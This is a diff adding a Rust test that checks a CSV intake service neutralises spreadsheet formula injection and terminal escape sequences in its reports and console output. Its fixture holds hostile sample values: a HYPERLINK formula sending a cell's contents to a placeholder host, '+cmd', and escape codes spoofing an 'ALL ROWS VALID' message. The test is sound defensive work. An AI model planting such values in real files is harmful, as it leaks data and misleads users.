@@ -194,3 +194,57 @@ async fn a_full_disk_that_frees_again_loses_nothing_and_needs_no_restart(mut db:
 }
 
 crate::on_both_backends!(a_full_disk_that_frees_again_loses_nothing_and_needs_no_restart);
+
+/// Refs a spreadsheet would run (`=HYPERLINK(...)`, `@SUM`, `+cmd`) are
+/// written into the report as text (a leading `'`); plain numbers and E.164
+/// phones stay as they are; `failed.csv` keeps the upload's own bytes; a
+/// ref with control characters fails its row (`invalid_ref`), and `intake
+/// check` prints the file's escape sequences escaped, never raw.
+async fn reports_open_safely_in_a_spreadsheet_and_terminals_see_no_escapes(db: TestDb) {
+    let d = TestDaemon::spawn(&db, &[TestAccount::new("acme")], &[]).await;
+    let file = d.dir.join("formulas.csv");
+    let csv = "ref,email\n\
+               \"=HYPERLINK(\"\"http://x/?\"\"&B3,\"\"Click\"\")\",a@example.com\n\
+               @SUM(A1),b@example.com\n\
+               +cmd,c@example.com\n\
+               -12,d@example.com\n\
+               +15555001234,e@example.com\n\
+               \"esc\x1b]0;ALL ROWS VALID\x07\x1b[2J\",f@example.com\n\
+               =bad,not-an-email\n";
+    std::fs::write(&file, csv).unwrap();
+    d.upload("acme", &file, "formulas.csv").await;
+    let summary = report_of(&d, "formulas").await;
+    assert_eq!((summary["created"].as_u64(), summary["failed"].as_u64()), (Some(5), Some(2)), "{summary}");
+    let results = crate::support::read_results(&d.outbox("acme").join("formulas.results.csv"));
+    let refs: Vec<&str> = results[1..].iter().map(|r| r[1].as_str()).collect();
+    assert_eq!(
+        refs,
+        [
+            "'=HYPERLINK(\"http://x/?\"&B3,\"Click\")",
+            "'@SUM(A1)",
+            "'+cmd",
+            "-12",
+            "+15555001234",
+            "esc\\u{1b}]0;ALL ROWS VALID\\u{7}\\u{1b}[2J",
+            "'=bad"
+        ]
+    );
+    assert_eq!(results[6][4], "invalid_ref", "{:?}", results[6]);
+    assert!(!results[6].iter().any(|cell| cell.contains('\x1b')), "{:?}", results[6]);
+    let failed = std::fs::read_to_string(d.outbox("acme").join("formulas.failed.csv")).unwrap();
+    assert!(
+        failed.contains("\"esc\x1b]0;ALL ROWS VALID\x07\x1b[2J\"") && failed.contains("=bad,not-an-email"),
+        "{failed:?}"
+    );
+    let out = crate::support::intake(&["check", file.to_str().unwrap()], &[], &d.dir).await;
+    let printed = String::from_utf8_lossy(&out.stdout);
+    assert!(printed.contains("invalid_ref"), "{}", describe(&out));
+    assert!(!printed.contains('\x1b') && !printed.contains('\x07'), "raw escapes printed: {printed:?}");
+}
+
+/// The summary of `stem` in acme's outbox.
+async fn report_of(d: &TestDaemon, stem: &str) -> serde_json::Value {
+    d.summary("acme", stem, REPORT).await
+}
+
+crate::on_both_backends!(reports_open_safely_in_a_spreadsheet_and_terminals_see_no_escapes);
